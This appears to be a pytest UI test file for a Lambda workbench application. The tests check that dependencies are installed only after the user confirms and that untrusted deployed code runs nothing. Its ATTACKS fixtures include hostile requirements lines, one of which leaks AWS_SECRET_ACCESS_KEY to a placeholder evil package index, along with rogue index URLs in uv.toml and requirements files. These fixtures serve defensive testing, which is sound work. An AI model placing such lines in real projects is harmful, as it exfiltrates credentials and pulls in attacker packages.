"""Row 1 in the window: nothing is installed before the user has agreed, and no stranger's code runs here."""

import io
import shutil
import zipfile
from collections.abc import Iterator, Mapping
from pathlib import Path

import pytest
from PySide6.QtWidgets import QApplication, QCheckBox, QPlainTextEdit

from tests.code.dependencies.wheels import make_wheel
from tests.sandbox_functions import create_function
from tests.security.bait import SOURCE, Machine, machine
from tests.ui.code_files import text as shown_text
from tests.ui.conftest import _theme, actions, clock, icons, jobs, services, settings, theme  # noqa: F401
from tests.ui.dialogs import install_question
from tests.ui.test_routes import desk, opener  # noqa: F401 - fixtures
from tests.ui.window_desk import Desk
from workbench.aws.connection import Connection
from workbench.code.dependencies.declared import InstallNotConfirmed
from workbench.code.dependencies.store import Target
from workbench.code.dependencies.use import DependencyState
from workbench.code.package_contents import folder_workspace, stage
from workbench.core.jobs import JobContext
from workbench.functions.detail import wait_until_updated
from workbench.ui.features.dependencies.panel import DependenciesPanel
from workbench.ui.features.deploy.dialog import DeployDialog
from workbench.ui.kit.labels import ElidedLabel
from workbench.ui.pages.code_opening import equip_for
from workbench.ui.shell.install_question import ask_to_install

HANDLER = "import lib\n\ndef handler(event, context):\n    return lib.version\n"
ATTACKS = {
    "a build in the tree": {"requirements.txt": "--no-binary x\n./x\n", **SOURCE},
    "an index with a secret": {
        "requirements.txt": "--index-url @EVIL@/${AWS_SECRET_ACCESS_KEY}/simple\nlib\n"
    },
    "a uv.toml": {"requirements.txt": "lib\n", "uv.toml": 'index-url = "@EVIL@/simple"\n'},
}


class Window:
    """The window with a function of somebody else's in it, downloaded a moment ago."""

    def __init__(self, desk: Desk, connection: Connection, pc: Machine) -> None:  # noqa: F811 - pytest's way
        self.desk, self.pc = desk, pc
        self._connection = connection
        self.actions = desk.context.services.actions

    def open(self, files: Mapping[str, str]) -> None:
        """Opens a function that was deployed with these files."""
        name = create_function(self._connection, HANDLER).function_name
        data = io.BytesIO()
        with zipfile.ZipFile(data, "w") as archive:
            for path, text in {"app.py": HANDLER, **files}.items():
                archive.writestr(path, self.pc.fill(text))
        self._connection.call("lambda", "update_function_code", FunctionName=name, ZipFile=data.getvalue())
        wait_until_updated(self._connection, name, JobContext())
        self.desk.connect()
        self.desk.open(name)
        self.desk.until(lambda: self.desk.code.files.current_path() == "app.py")

    def edit(self, path: str, text: str) -> None:
        workspace = self.desk.code.workspace
        assert workspace is not None
        workspace.save(path, text)
        self.desk.code.reload()
        if path in self.desk.code.files.open_paths():
            self.desk.until(lambda: shown_text(self.desk.code.files).toPlainText() == text)

    def standing(self) -> DependencyState:
        workspace = self.desk.code.workspace
        assert workspace is not None
        return workspace.dependencies.status(workspace.base).state

    def look(self) -> DependenciesPanel:
        """Shows the Dependencies panel and looks through the code."""
        self.actions["view.dependencies"].trigger()
        self.actions["dependencies.look"].trigger()
        self.desk.idle()
        panel = self.desk.window.findChild(DependenciesPanel)
        assert panel is not None
        return panel

    def plan(self) -> DeployDialog:
        """Shows the plan of a deploy, once it is worked out."""
        self.actions["function.deploy_with"].trigger()
        self.desk.until(lambda: self.desk.window.findChild(DeployDialog))
        dialog = self.desk.window.findChild(DeployDialog)
        assert dialog is not None
        self.desk.until(lambda: not dialog.bar.isVisible() and dialog._is_checked)
        self.desk.idle()
        return dialog

    def installed(self) -> list[Path]:
        return list((self.desk.context.services.paths.cache_dir / "dependencies").glob("[!.]*"))

    def steps(self, dialog: DeployDialog) -> list[str]:
        model = dialog.steps.model()
        return [str(model.index(row, 0).data()) for row in range(model.rowCount())]


@pytest.fixture
def window(
    desk: Desk,  # noqa: F811 - pytest's way
    connection: Connection,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> Iterator[Window]:
    folder = tmp_path / "machine"
    folder.mkdir()
    with machine(folder, monkeypatch) as pc:
        for wheels in ("wheels", "evil-wheels"):
            make_wheel(folder / wheels, "lib", "1.0", {"lib/__init__.py": "version = 1\n"})
            make_wheel(folder / wheels, "lib", "2.0", {"lib/__init__.py": "version = 2\n"})
        yield Window(desk, connection, pc)
        desk.idle()


@pytest.mark.parametrize("name", ATTACKS)
def test_the_plan_of_a_strangers_function_installs_and_runs_nothing(window: Window, name: str) -> None:
    window.open({**ATTACKS[name], "vendor/x": "", "lib/__init__.py": "version = 0\n"})
    assert window.standing() is DependencyState.AS_DEPLOYED  # nobody has edited anything
    window.look()
    dialog = window.plan()
    assert dialog.proposal is not None
    assert dialog.proposal.plan.already_deployed
    dialog.reject()
    window.desk.until(lambda: window.desk.window.findChild(DeployDialog) is None)
    window.edit("app.py", HANDLER + "# edited\n")
    dialog = window.plan()
    assert dialog.proposal is not None
    assert dialog.proposal.plan.package.contents.files.keys() >= {"lib/__init__.py", "vendor/x"}
    dialog.reject()
    assert window.pc.harm() == []
    assert window.installed() == []


def test_a_hostile_line_stops_the_plan_without_a_question(window: Window) -> None:
    window.open({})
    window.edit("requirements.txt", window.pc.fill("lib\n--index-url http://me:x@@EVILHOST@/simple\n"))
    dialog = window.plan()
    assert "requirements.txt, line 2: --index-url" in dialog.state.text()
    assert not dialog.yes.isEnabled()
    dialog.reject()
    window.actions["function.deploy"].trigger()
    window.desk.until(lambda: window.desk.banner("line 2: --index-url"))
    assert QApplication.activeModalWidget() is None
    assert window.pc.harm() == []
    assert window.installed() == []


def test_an_index_that_is_not_the_users_is_named_in_the_question(window: Window) -> None:
    window.open({})
    window.edit("requirements.txt", window.pc.fill("lib==1.0\n--extra-index-url @EVIL@/simple\n"))
    dialog = window.plan()
    dialog.yes.click()
    question = install_question(window.desk)
    words = question.findChild(type(dialog.state), "installDependenciesWords")
    assert words is not None
    assert window.pc.fill("@EVILHOST@ is not one of your package indexes.") in words.text()
    question.no.click()
    dialog.reject()
    window.desk.idle()
    assert window.pc.harm() == []
    assert window.installed() == []


@pytest.mark.skipif(not shutil.which("npm"), reason="npm is not on this computer")
def test_versions_that_npm_finds_are_shown_and_kept_if_wanted(window: Window, tmp_path: Path) -> None:
    window.pc.index.publish("b", "1.2.0")
    window.pc.index.publish("a", "1.0.0", dependencies={"b": "^1.0.0"})
    shared, code = window.desk.context.services, window.pc.code
    window.pc.write({"package.json": '{"dependencies": {"a": "^1.0.0"}}', "index.js": ""})
    workspace = folder_workspace(code, tmp_path / "scratch")
    equip_for(workspace, shared, Target("nodejs22.x"))
    with pytest.raises(InstallNotConfirmed) as caught:
        workspace.package(JobContext())
    done: list[bool] = []
    ask_to_install(shared, window.desk.window, caught.value.preview, lambda: done.append(True))
    question = install_question(window.desk)
    detail = question.findChild(QPlainTextEdit)
    assert detail is not None
    assert detail.toPlainText() == "a 1.0.0\nb 1.2.0"
    keep = question.findChild(QCheckBox, "installDependenciesKeep")
    assert keep is not None
    assert not keep.isChecked()
    keep.click()
    question.yes.click()
    window.desk.until(lambda: done)
    assert '"node_modules/b"' in (code / "package-lock.json").read_text()
    files = workspace.package(JobContext()).contents.files  # nobody is asked again
    assert {"node_modules/a/index.js", "node_modules/b/index.js", "package-lock.json"} <= files.keys()
    assert window.pc.harm() == []


def test_a_plan_says_what_would_be_installed_and_waits_for_a_yes(window: Window) -> None:
    window.open({})
    window.edit("requirements.txt", "lib<2\n")
    panel = window.look()
    assert "The next deployment asks" in panel.status.text()
    dialog = window.plan()
    assert window.steps(dialog) == ["1. Install 1 package from requirements.txt, after you confirm"]
    assert "after you confirm" in dialog.state.text()
    assert dialog.yes.text() == "Install Dependencies…"
    assert window.installed() == []
    assert window.pc.index.requests == []  # not even the user's own index is asked

    dialog.yes.click()
    question = install_question(window.desk)
    detail = question.findChild(QPlainTextEdit)
    assert detail is not None
    assert detail.toPlainText() == "lib<2"
    words = question.findChild(type(dialog.state), "installDependenciesWords")
    assert words is not None
    assert "requirements.txt requires 1 package" in words.text()
    assert window.pc.index.simple in words.text()
    question.no.click()
    window.desk.idle()
    assert window.installed() == []
    assert dialog.proposal is None

    dialog.yes.click()
    install_question(window.desk).yes.click()
    window.desk.until(lambda: dialog.proposal)
    assert len(window.installed()) == 1
    assert "newly installed" in dialog.about.text()
    assert dialog.yes.text() != "Install Dependencies…"
    dialog.reject()
    assert window.pc.harm() == []


def test_a_deploy_asks_once_for_each_declaration(window: Window) -> None:
    window.open({})
    window.edit("requirements.txt", "lib==1.0\n")
    window.actions["function.deploy"].trigger()
    install_question(window.desk).no.click()
    window.desk.until(lambda: window.desk.banner("you did not approve"))
    banner = window.desk.banner("was not deployed")
    assert banner is not None
    assert "choose Install" in banner.error.remedy
    assert window.installed() == []

    window.actions["function.deploy"].trigger()
    install_question(window.desk).yes.click()
    window.desk.until(lambda: window.desk.banner("Deployed"))
    assert len(window.installed()) == 1

    window.edit("app.py", HANDLER + "# edited\n")
    window.actions["function.deploy"].trigger()
    window.desk.idle()
    assert QApplication.activeModalWidget() is None  # the declaration is what it was
    window.edit("requirements.txt", "lib==2.0\n")
    window.actions["function.deploy"].trigger()
    install_question(window.desk).no.click()
    window.desk.idle()
    assert len(window.installed()) == 1


def test_deploy_on_save_installs_nothing_unasked_and_asks_nothing(window: Window) -> None:
    window.open({})
    window.actions["function.deploy_on_save"].trigger()
    window.edit("requirements.txt", "lib\n")
    window.desk.code.changes.changed.emit()
    bar = window.desk.window.findChild(ElidedLabel, "deployOnSaveText")
    assert bar is not None
    window.desk.until(lambda: "not installed" in bar.accessibleName())
    assert "Install Dependencies" in bar.accessibleName()
    assert QApplication.activeModalWidget() is None
    assert window.installed() == []
    window.actions["function.deploy_on_save"].trigger()


def test_a_deploy_to_several_asks_before_it_packs(window: Window) -> None:
    window.open({})
    window.edit("requirements.txt", "lib\n")
    window.actions["function.fan_out"].trigger()
    install_question(window.desk).no.click()
    window.desk.idle()
    assert window.installed() == []
    assert not [each for each in QApplication.topLevelWidgets() if each.objectName() == "fanOutDialog"]


def test_a_local_run_installs_nothing_unasked(window: Window, tmp_path: Path) -> None:
    window.open({})
    window.edit("requirements.txt", "lib\n")
    workspace = window.desk.code.workspace
    assert workspace is not None
    with pytest.raises(InstallNotConfirmed) as caught:
        stage(workspace, tmp_path / "run", JobContext())
    assert caught.value.action == "dependencies.install"  # its button asks
    assert window.installed() == []
    assert not (tmp_path / "run").exists()
